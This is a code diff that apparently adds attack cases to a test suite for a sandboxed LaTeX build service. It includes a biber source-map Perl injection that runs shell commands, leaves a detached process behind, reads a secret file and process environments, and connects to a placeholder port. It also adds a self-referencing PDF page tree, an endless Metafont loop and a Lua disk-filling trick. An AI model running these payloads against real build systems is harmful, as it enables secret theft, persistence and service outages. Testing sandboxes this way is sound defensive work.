@@ -38,6 +38,12 @@ def pdftex(body: str, preamble: str = "") -> dict[str, str | bytes]:
     return {"main.tex": tex(body, preamble, engine="pdflatex")}
 
 
+CYCLE = (
+    b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
+    b"2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 100000/Parent 2 0 R>>endobj\n"
+    b"xref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000052 00000 n \n"
+    b"trailer<</Size 3/Root 1 0 R/Prev 125>>\nstartxref\n125\n%%EOF\n"
+)
 EPS = "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n0 0 moveto 9 9 lineto stroke\n%%EOF\n"
 
 READING = {
@@ -429,6 +435,35 @@ RUNNING = {
             )
         },
     ),
+    "biber-replacement": Attack(
+        "biber evaluates the replacement of a source map as Perl: it reads, runs, connects and stays behind",
+        {
+            "main.tex": tex(
+                "\\nocite{*}\\printbibliography",
+                "\\usepackage{biblatex}\\addbibresource{own.bib}\n\\DeclareSourcemap{\\maps[datatype=bibtex]{\\map{"
+                "\\step[fieldsource=title,match=\\regexp{T(.*)},replace=\\regexp{@{[do(q(./run.txt))]}}]}}}\n",
+            ),
+            "own.bib": "@misc{a, title={Title}, year=2020}\n",
+            "run.txt": "system('touch @WATCH@/ran; setsid sleep 60 >/dev/null 2>&1 &');\n"
+            "if (!fork) { $SIG{$_} = 'IGNORE' for keys %SIG; setpgrp; exit if fork; sleep 60; exit }\n"
+            "my $read = '';\n"
+            "for ('@SECRET@/secret.txt', glob('/proc/*/environ')) {\n"
+            "if (open my $file, '<', $_) { local $/; $read .= <$file> // '' } }\n"
+            "eval { require IO::Socket::INET; IO::Socket::INET->new('127.0.0.1:@PORT@') };\n"
+            "unlink '@SECRET@/secret.txt'; $read =~ s/[^A-Za-z0-9]/ /g; $read\n",
+        },
+        bites=True,
+    ),
+    "metafont-source": Attack(
+        "a font of the project has a Metafont source, which would be run to make its bitmaps",
+        {
+            "main.tex": tex("\\font\\x=own \\x A", engine="pdflatex"),
+            "own.tfm": bytes.fromhex(  # the letter A of a font of ten points (tex.web, section 540)
+                "000e0002004100410002000100010001" + "00" * 12 + "00a0000001000000" + "0000000000080000" + "00" * 12
+            ),
+            "own.mf": 'forever: message "x"; endfor\n',
+        },
+    ),
     "shell-in-packages": Attack(
         "packages that run programs: minted, gnuplot, svg, imakeidx",
         {
@@ -453,6 +488,17 @@ SPENDING = {
     "output-of-lua": Attack(
         "endless output by Lua, past TeX's own files",
         lua("while true do io.stdout:write(string.rep('x', 65536)) end"),
+    ),
+    "files-without-a-name": Attack(
+        "files that are written after their names are gone: no folder shows them",
+        lua(
+            "local kept = {} for n = 1, 30 do local f = io.open('f' .. n, 'w'); os.remove('f' .. n); kept[n] = f\n"
+            "for _ = 1, 50 do f:write(string.rep('x', 1000000)) end f:flush() end"
+        ),
+    ),
+    "page-tree-of-itself": Attack(
+        "a picture whose page tree is its own child, and whose table of objects is its own predecessor",
+        {"main.tex": tex("\\includegraphics{p}", "\\usepackage{graphicx}\n"), "p.pdf": CYCLE},
     ),
     "bibtex-loop": Attack(
         "a bibliography style that never ends",
